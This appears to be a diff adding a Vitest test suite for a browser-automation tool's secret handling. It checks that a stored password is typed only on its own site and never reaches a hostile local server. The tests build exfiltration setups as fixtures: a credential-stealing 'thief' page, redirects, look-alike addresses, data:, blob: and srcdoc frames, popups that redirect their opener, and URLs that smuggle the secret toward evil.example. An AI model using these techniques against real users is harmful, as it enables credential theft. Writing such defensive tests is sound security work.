@@ -1,0 +1,304 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import type { JsonObject } from '../../../../shared/json.ts';
+import { boundTo, written } from '../../../../shared/testing/sealed.ts';
+import { secretMask } from '../../../../shared/text/secret-mask.ts';
+import type { ToolOutcome } from '../../../executor/ports.ts';
+import { openBrowserHub, type BrowserHub } from '../testing/open-browser-hub.ts';
+import {
+  callWithSecret,
+  expectKeptWhileLeaving,
+  typedSecret as secret,
+} from '../testing/leave-while-typing.ts';
+import { openSite, thief, type Site } from '../testing/hostile-sites.ts';
+
+const limitMs = 120_000;
+let browser: BrowserHub;
+let shop: Site;
+let evil: Site;
+
+beforeAll(async () => {
+  [browser, shop, evil] = await Promise.all([openBrowserHub(), openSite(), openSite()]);
+}, limitMs);
+afterAll(async () => {
+  await Promise.all([browser.close(), shop.close(), evil.close()]);
+});
+beforeEach(() => {
+  shop.received.length = 0;
+  evil.received.length = 0;
+});
+
+const call = (tool: string, args: JsonObject): Promise<ToolOutcome> =>
+  callWithSecret({ browser, shop }, tool, args);
+
+const type = (args: JsonObject = {}): Promise<ToolOutcome> =>
+  call('type_text', { text: '${secrets.PW}', into: 'Password', timeoutMs: 1_000, ...args });
+
+const held = async (css: string): Promise<string | undefined> =>
+  browser.session.openPage?.locator(css).inputValue();
+
+async function expectKept(outcome: ToolOutcome): Promise<void> {
+  expect(outcome).toMatchObject({
+    ok: false,
+    failure: {
+      code: 'secret-not-allowed',
+      message: expect.stringContaining("The secret PW wasn't") as string,
+    },
+  });
+  // A thief would have sent it before this answer.
+  await browser.value('open_page', { url: `${evil.url}/sentinel` });
+  expect(evil.received.join('\n')).toContain('/sentinel');
+  expect(evil.received.join('\n')).not.toContain(secret);
+}
+
+test(
+  "a short description of an element doesn't reveal the start of a secret",
+  async () => {
+    const short = 'hunter2-and-mor';
+    const caller = browser.callerWith({ PW: short }, boundTo(['PW'], { origins: [shop.url] }));
+    const found = caller.resolve('browser', 'click');
+    if (!found.ok) throw new Error(found.failure.message);
+    for (const left of [3, 5, 9, 13]) {
+      const row = (letter: string): string =>
+        `<tr><td>${letter.repeat(39 - left - 1)} ${short}</td><td><button>Delete</button><b onclick="">${letter.repeat(59 - left - 1)} ${short} here</b></td></tr>`;
+      shop.show('/rows', `<table>${row('y')}${row('z')}</table>`);
+      await browser.value('open_page', { url: `${shop.url}/rows` });
+      for (const target of [{ target: 'Delete' }, { css: 'b' }]) {
+        const outcome = await caller.call(
+          found.tool,
+          written({ ...target, timeoutMs: 300 }),
+          new AbortController().signal,
+          8_000,
+        );
+        expect(outcome).toMatchObject({
+          ok: false,
+          failure: {
+            code: 'target-ambiguous',
+            message: expect.stringContaining(`${secretMask}…”`) as string,
+          },
+        });
+        expect(JSON.stringify(outcome)).not.toContain(short.slice(0, 3));
+      }
+    }
+  },
+  limitMs,
+);
+
+describe('typing a secret on its own site', () => {
+  test.each([
+    ['into a password field', '<label>Password <input id="p" type="password"></label>', {}],
+    ['key by key', '<label>Password <input id="p"></label>', { byKeys: true }],
+    ['over what is there', '<label>Password <input id="p" value="old"></label>', {}],
+    ['into a text area', '<label>Password <textarea id="p"></textarea></label>', {}],
+    ['into the focused field', '<input id="p" autofocus>', { into: null }],
+  ] as const)(
+    '%s',
+    async (_, body, more) => {
+      shop.show('/login', body);
+      await browser.value('open_page', { url: `${shop.url}/login` });
+      const args =
+        'into' in more ? { text: '${secrets.PW}' } : { text: '${secrets.PW}', into: 'Password', ...more };
+      expect(await call('type_text', args)).toMatchObject({ ok: true });
+      expect(await held('#p')).toBe(secret);
+    },
+    limitMs,
+  );
+
+  test(
+    "appends, fires the form's events, and submits",
+    async () => {
+      shop.show(
+        '/login',
+        '<form action="/sent"><label>Password <input id="p" name="p" value="x-"></label></form><script>seen = []; for (const kind of ["input", "change"]) p.addEventListener(kind, () => seen.push(kind));</script>',
+      );
+      await browser.value('open_page', { url: `${shop.url}/login` });
+      expect(await type({ clear: false })).toMatchObject({ ok: true });
+      expect(await held('#p')).toBe(`x-${secret}`);
+      expect(await browser.session.openPage?.evaluate('[...new Set(seen)]')).toEqual(['input', 'change']);
+      expect(await type({ submit: true })).toMatchObject({ ok: true });
+      expect(shop.received.join('\n')).toContain(`/sent?p=${secret}`);
+    },
+    limitMs,
+  );
+
+  test(
+    'works in an address and in a same-site frame',
+    async () => {
+      shop.show('/frame', '<label>Password <input id="p"></label>');
+      shop.show('/with-frame', '<iframe src="/frame"></iframe>');
+      expect(await call('open_page', { url: `${shop.url}/with-frame?token=\${secrets.PW}` })).toMatchObject({
+        ok: true,
+      });
+      expect(shop.received.join('\n')).toContain(`token=${secret}`);
+      expect(await type()).toMatchObject({ ok: true });
+    },
+    limitMs,
+  );
+
+  test(
+    'types 100,000 characters; a field that keeps fewer is reported',
+    async () => {
+      const token = 'a1B2'.repeat(25_000);
+      const caller = browser.callerWith({ LONG: token }, boundTo(['LONG'], { origins: [shop.url] }));
+      const found = caller.resolve('browser', 'type_text');
+      if (!found.ok) throw new Error(found.failure.message);
+      const send = (into: string): Promise<ToolOutcome> =>
+        caller.call(
+          found.tool,
+          written({ text: '${secrets.LONG}', into }),
+          new AbortController().signal,
+          8_000,
+        );
+      shop.show('/long', '<label>Token <input id="t"></label><label>Short <input maxlength="10"></label>');
+      await browser.value('open_page', { url: `${shop.url}/long` });
+      expect(await send('Token')).toMatchObject({ ok: true });
+      expect(await held('#t')).toBe(token);
+      expect(await send('Short')).toMatchObject({ ok: false, failure: { code: 'text-rejected' } });
+    },
+    limitMs,
+  );
+});
+
+describe('a secret stays out of another site', () => {
+  test.each([
+    ['by a redirect', () => `${shop.url}/to/${encodeURIComponent(`${evil.url}/login`)}`],
+    ['by a refresh', () => `${shop.url}/refresh`],
+    ['by a look-alike address: user info', () => evil.url.replace('http://', 'http://shop.example@')],
+    [
+      'by a look-alike address: another name of this computer',
+      () => shop.url.replace('127.0.0.1', 'localhost'),
+    ],
+    ['by a look-alike address: another port', () => evil.url],
+    ['by a blank page', () => 'about:blank'],
+  ])(
+    '%s',
+    async (_, address) => {
+      for (const path of ['/', '/login']) {
+        evil.show(path, thief);
+        shop.show(path, thief);
+      }
+      shop.show('/refresh', `<meta http-equiv="refresh" content="0; url=${evil.url}/login">`);
+      await browser.value('open_page', { url: address() });
+      if (address() === `${shop.url}/refresh`)
+        await browser.session.openPage?.waitForURL(`${evil.url}/login`);
+      await expectKept(await type());
+    },
+    limitMs,
+  );
+
+  test.each([
+    ['an advert', () => `<iframe src="${evil.url}/login"></iframe>`],
+    [
+      'a data: frame',
+      () => `<iframe src='data:text/html,${thief.replaceAll('/stolen', `${evil.url}/stolen`)}'></iframe>`,
+    ],
+    [
+      'a blob: frame',
+      () =>
+        `<iframe id="f"></iframe><script>f.src = URL.createObjectURL(new Blob([${JSON.stringify(thief.replaceAll('/stolen', `${evil.url}/stolen`)).replaceAll('</', '<\\/')}], { type: 'text/html' }));</script>`,
+    ],
+    [
+      'a frame without an address',
+      () =>
+        `<iframe srcdoc='${thief.replaceAll("'", '&#39;').replaceAll('/stolen', `${evil.url}/stolen`)}'></iframe>`,
+    ],
+  ])(
+    'in %s',
+    async (_, body) => {
+      evil.show('/login', thief);
+      shop.show('/', `<h1>Shop</h1>${body()}`);
+      await browser.value('open_page', { url: shop.url });
+      await browser.session.openPage?.frameLocator('iframe').locator('#p').waitFor();
+      await expectKept(await type());
+    },
+    limitMs,
+  );
+
+  test(
+    'in a frame of its own site inside another site',
+    async () => {
+      shop.show('/login', thief);
+      evil.show('/', `<iframe src="${shop.url}/login"></iframe>`);
+      await browser.value('open_page', { url: evil.url });
+      await browser.session.openPage?.frameLocator('iframe').locator('#p').waitFor();
+      await expectKept(await type());
+      expect(shop.received.join('\n')).not.toContain(secret);
+    },
+    limitMs,
+  );
+
+  test(
+    'in popups, and if the opener was sent elsewhere',
+    async () => {
+      evil.show('/login', thief);
+      shop.show(
+        '/',
+        `<label>Password <input></label><button onclick="window.open('${evil.url}/login')">Help</button>`,
+      );
+      await browser.value('open_page', { url: shop.url });
+      await browser.value('click', { target: 'Help' });
+      await expect.poll(() => browser.session.openPage?.url()).toBe(`${evil.url}/login`);
+      await expectKept(await type());
+      await browser.session.openPage?.close();
+      evil.show('/opener', `<script>opener.location = '${evil.url}/login';</script>`);
+      shop.show(
+        '/',
+        `<label>Password <input></label><button onclick="window.open('${evil.url}/opener')">Help</button>`,
+      );
+      await browser.value('open_page', { url: shop.url });
+      const page = browser.session.openPage;
+      await browser.value('click', { target: 'Help' });
+      await page?.waitForURL(`${evil.url}/login`);
+      await browser.value('focus_window', { number: 1 });
+      await expectKept(await type());
+    },
+    limitMs,
+  );
+
+  test(
+    'during a navigation while the field is looked for',
+    () => expectKeptWhileLeaving({ browser, shop, evil }, [0, 60, 120, 180, 240]),
+    limitMs,
+  );
+
+  test(
+    'while an advert keeps taking the focus',
+    async () => {
+      evil.show('/login', `${thief}<script>setInterval(() => { p.focus(); p.select(); }, 1);</script>`);
+      shop.show(
+        '/',
+        `<label>Password <input id="own" type="password"></label><iframe src="${evil.url}/login" title="Advert"></iframe>`,
+      );
+      await browser.value('open_page', { url: shop.url });
+      for (const byKeys of [false, true]) {
+        await type({ css: '#own', into: null, byKeys });
+        await call('type_text', { text: '${secrets.PW}', css: '#own', byKeys });
+      }
+      await browser.value('open_page', { url: `${evil.url}/sentinel` });
+      expect(evil.received.join('\n')).not.toContain(secret);
+    },
+    limitMs,
+  );
+
+  test(
+    'as an address, a key, a dialog answer or a target',
+    async () => {
+      evil.show('/', '<button>Go</button>');
+      shop.show('/', '<button onclick="prompt(1)">Ask</button>');
+      await browser.value('open_page', { url: evil.url });
+      await expectKept(await call('open_page', { url: `${evil.url}/?q=\${secrets.PW}` }));
+      await expectKept(
+        await call('open_page', { url: shop.url.replace('://', '://${secrets.PW}@evil.example/') }),
+      );
+      await browser.value('open_page', { url: evil.url });
+      await expectKept(await call('click', { target: '${secrets.PW}' }));
+      for (const [tool, args] of [
+        ['press_key', { key: '${secrets.PW}' }],
+        ['answer_dialog', { text: '${secrets.PW}' }],
+        ['open_page', { url: `${shop.url}/#\${secrets.PW}` }],
+      ] as const) {
+        expect(await call(tool, args)).toMatchObject({ ok: false, failure: { code: 'secret-not-allowed' } });
+      }
+    },
+    limitMs,
+  );
+});
